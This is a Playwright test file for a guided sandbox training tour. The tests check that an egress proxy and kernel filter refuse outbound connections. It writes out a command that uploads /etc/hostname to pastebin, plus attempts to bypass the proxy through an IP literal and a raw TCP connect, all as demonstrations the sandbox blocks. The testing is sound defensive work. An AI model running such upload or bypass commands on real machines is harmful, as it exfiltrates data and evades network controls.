import { expect, type Page, test } from "@playwright/test";
import {
  BOOT_TIMEOUT_MS,
  closePlayground,
  commandCount,
  commandEnd,
  openPlayground,
  type Playground,
  typeAndWait,
  waitForGuest,
} from "./support/guest";
import { refuseUnplanned, routeZen } from "./support/upstreams";

// The guided training tour: the trainee types each step's command into the real
// guest's terminal; the tour advances on the right outcome (verdict table rows 2, 4, 6 and 7) and
// not on a wrong one; progress survives a reload. One boot for the file.
test.describe.configure({ mode: "serial" });

let pg: Playground;
test.beforeAll(async ({ browser }) => {
  test.setTimeout(BOOT_TIMEOUT_MS + 60_000);
  pg = await openPlayground(browser, "./?tour=1");
  await refuseUnplanned(pg.context);
  await routeZen(pg.context, "Practicality beats purity.");
});
test.afterAll(async () => {
  await closePlayground(pg);
});

/** Types a command into the terminal the way a user does and waits for the shell to report its end. */
async function typeInTerminal(page: Page, command: string): Promise<void> {
  await typeAndWait(page, command);
}

const card = (page: Page) => page.getByTestId("tour-card");
const tourEvents = (page: Page) =>
  page.evaluate(() => (window.__tab?.log.events() ?? []).flatMap((e) => (e.kind === "tour.step" ? [`${e.phase} ${e.step}`] : [])));

test("step 1: sending a file to pastebin is refused host-not-allowed by proxy, explained, and the tour moves on", async () => {
  test.setTimeout(180_000);
  const page = pg.page;
  await expect(card(page)).toHaveAttribute("data-step", "pastebin");
  await expect(page.getByTestId("tour-command")).toHaveText("curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  await typeInTerminal(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  await expect(card(page)).toHaveAttribute("data-step", "ip-literal", { timeout: 90_000 });
  const explained = page.getByTestId("tour-explained");
  await expect(explained).toContainText("host-not-allowed (by proxy");
  await expect(explained).toContainText("Verdict table, row 2");
  expect(await tourEvents(page)).toEqual(expect.arrayContaining(["passed pastebin", "start ip-literal"]));
  await page.screenshot({ path: "docs/screenshots/tour.png" }); // docs/guide.md, "The guided tour"
});

test("step 2: a wrong outcome says what happened and does not advance; the IP literal does", async () => {
  test.setTimeout(240_000);
  const page = pg.page;
  await typeInTerminal(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
  const attempt = page.getByTestId("tour-attempt");
  await expect(attempt).toHaveAttribute("data-outcome", "wrong", { timeout: 90_000 });
  await expect(attempt).toContainText("What happened instead: the proxy refused CONNECT pastebin.com:443: host-not-allowed");
  await expect(card(page)).toHaveAttribute("data-step", "ip-literal");

  await typeInTerminal(page, "curl -sS https://api.github.com/zen; echo");
  await expect(attempt).toContainText("served (by proxy", { timeout: 90_000 });
  await expect(attempt).toContainText("nothing was refused");
  await expect(card(page)).toHaveAttribute("data-step", "ip-literal");

  await typeInTerminal(page, "curl -sS https://93.184.216.34/");
  await expect(card(page)).toHaveAttribute("data-step", "bypass", { timeout: 90_000 });
  await expect(page.getByTestId("tour-explained")).toContainText("ip-literal (by proxy");
  expect(await tourEvents(page)).toEqual(expect.arrayContaining(["wrong ip-literal", "passed ip-literal", "start bypass"]));
});

test("progress survives a reload", async () => {
  test.setTimeout(BOOT_TIMEOUT_MS);
  const page = pg.page;
  await page.reload();
  await expect(card(page)).toHaveAttribute("data-step", "bypass");
  await expect(page.getByTestId("tour-step")).toContainText("Step 3 of 4: Bypass the proxy");
  await waitForGuest(page);
  expect(await tourEvents(page)).toEqual(["start bypass"]);
});

test("step 3: without llrun the SYN leaves and the wire refuses it (not the lesson); under llrun the kernel says EACCES", async () => {
  test.setTimeout(240_000);
  const page = pg.page;
  await typeInTerminal(page, "tcpconnect 93.184.216.34 443");
  const attempt = page.getByTestId("tour-attempt");
  await expect(attempt).toHaveAttribute("data-outcome", "wrong", { timeout: 90_000 });
  await expect(attempt).toContainText("without llrun");
  await expect(card(page)).toHaveAttribute("data-step", "bypass");
  const verdicts = await page.evaluate(() => window.__tab?.log.ofKind("wire.verdict").map((e) => `${e.code} ${e.target}`) ?? []);
  expect(verdicts).toContain("no-route 93.184.216.34:443");

  // "Type it for me" types the hint's command into the guest console.
  const command = "llrun --ro / --rw /tmp --connect 3128 -- tcpconnect 93.184.216.34 443";
  await expect(page.getByTestId("tour-command")).toHaveText(command);
  const typed = await commandCount(page);
  await page.getByTestId("tour-type").click();
  await expect(card(page)).toHaveAttribute("data-step", "dns", { timeout: 90_000 });
  expect((await commandEnd(page, typed)).by).toBe("page");
  await expect(page.getByTestId("tour-explained")).toContainText("EACCES (errno 13)");
  await expect(page.getByTestId("tour-explained")).toContainText("Verdict table, row 6");
});

test("step 4: the DNS query is visible on the wire and answered REFUSED; the tour finishes", async () => {
  test.setTimeout(240_000);
  const page = pg.page;
  await typeInTerminal(page, "nslookup example.com 10.0.2.2");
  await expect(card(page)).toHaveAttribute("data-step", "finished", { timeout: 90_000 });
  await expect(page.getByTestId("tour-explained")).toContainText("answered REFUSED");
  await expect(page.getByTestId("tour-explained")).toContainText("TCP connect and bind only");
  await expect(page.getByTestId("tour-finished")).toBeVisible();
  const dns = await page.evaluate(() => window.__tab?.log.ofKind("wire.dns").map((e) => `${e.name} ${e.answer}`) ?? []);
  expect(dns).toContain("example.com REFUSED");
  expect(await tourEvents(page)).toEqual(expect.arrayContaining(["passed dns", "finished dns"]));
});

test("Restart tour goes back to step 1; corrupted saved progress resets to step 1 with a note; the Tour tab starts it", async () => {
  test.setTimeout(BOOT_TIMEOUT_MS);
  const page = pg.page;
  await page.getByTestId("tour-restart").click();
  await expect(card(page)).toHaveAttribute("data-step", "pastebin");
  expect(await tourEvents(page)).toEqual(expect.arrayContaining(["restart pastebin"]));

  await page.evaluate(() => localStorage.setItem("linux-in-a-tab:tour", '{"version":1,"step":'));
  await page.reload();
  await expect(page.getByTestId("tour-note")).toContainText("starts again at step 1");
  await expect(card(page)).toHaveAttribute("data-step", "pastebin");
  await waitForGuest(page);

  // Without ?tour=1 and with nothing saved, the Tour tab offers to start it.
  await page.evaluate(() => localStorage.removeItem("linux-in-a-tab:tour"));
  await page.goto("./");
  await page.locator('[data-tab="tour"]').click();
  await expect(card(page)).toHaveAttribute("data-step", "");
  await page.getByTestId("tour-start").click();
  await expect(card(page)).toHaveAttribute("data-step", "pastebin");
  await waitForGuest(page);
});
